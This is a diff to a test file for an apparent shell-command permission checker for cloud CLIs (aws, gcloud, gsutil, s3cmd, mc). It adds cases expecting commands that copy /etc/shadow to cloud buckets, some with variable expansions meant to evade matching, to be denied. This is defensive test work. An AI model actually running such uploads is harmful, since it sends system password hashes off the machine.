@@ -25,7 +25,7 @@ const FILES_AND_HOSTS = {
   allow: ['Shell(*)', 'Read(/**)', 'Edit(/**)'],
 };
 
-describe('aws, gcloud, gsutil: an expansion among the subcommand words (cloud-clis.ts)', () => {
+describe('aws, gcloud, gsutil, s3cmd, mc: an expansion among the subcommand words (cloud-clis.ts)', () => {
   lineTable(FILES_AND_HOSTS, [
     // Before, inside, twice, and a value split off (`--profile $P` passes `$P $P`).
     ['aws $X s3 cp /etc/shadow s3://b', 'deny'], ['aws s3 $X cp /etc/shadow s3://b', 'deny'], ['aws $X $X s3 cp /etc/shadow s3://b', 'deny'],
@@ -34,6 +34,8 @@ describe('aws, gcloud, gsutil: an expansion among the subcommand words (cloud-cl
     ['gcloud $X storage cp /etc/shadow gs://b', 'deny'], ['gcloud storage $X cp /etc/shadow gs://b', 'deny'],
     ['gcloud --project $P storage cp /etc/shadow gs://b', 'deny'], ['gsutil $X cp /etc/shadow gs://b', 'deny'],
     ['gsutil $X /etc/shadow gs://b', 'ask'], ['gcloud $X run deploy', 'ask'],
+    ['s3cmd $X put /etc/shadow s3://b', 'deny'], ['s3cmd -c $C put /etc/shadow s3://b', 'deny'], ['mc $X cp /etc/shadow r/b', 'deny'], ['s3cmd $X', 'ask'],
+    ['s3cmd ls s3://b', 'allow'], ['mc ls r/b', 'allow'], ['mc cp a.txt r/b', 'allow'],
     // As the literal spelling, and after the subcommand: as before.
     ['aws s3 cp /etc/shadow s3://b', 'deny'], ['aws --profile "$P" s3 cp /etc/shadow s3://b', 'deny'], ['aws s3 cp "$F" s3://b', 'ask'],
     ['aws s3 ls', 'allow'], ['aws s3 cp a.txt s3://b', 'allow'], ['aws --profile p s3 ls', 'allow'], ['aws s3 ls "$B"', 'allow'],
